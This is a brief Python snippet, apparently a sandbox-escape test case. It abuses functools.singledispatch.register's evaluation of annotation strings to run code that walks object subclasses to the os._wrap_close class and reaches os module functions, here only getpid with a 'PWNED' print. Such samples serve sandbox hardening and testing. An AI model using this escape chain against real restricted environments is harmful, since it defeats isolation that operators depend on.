# eval: functools.singledispatch.register evaluates the annotation string
import functools
@functools.singledispatch
def f(x):
    pass
@f.register
def _(x: "print('PWN' + 'ED', [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['getpid']())"):
    pass
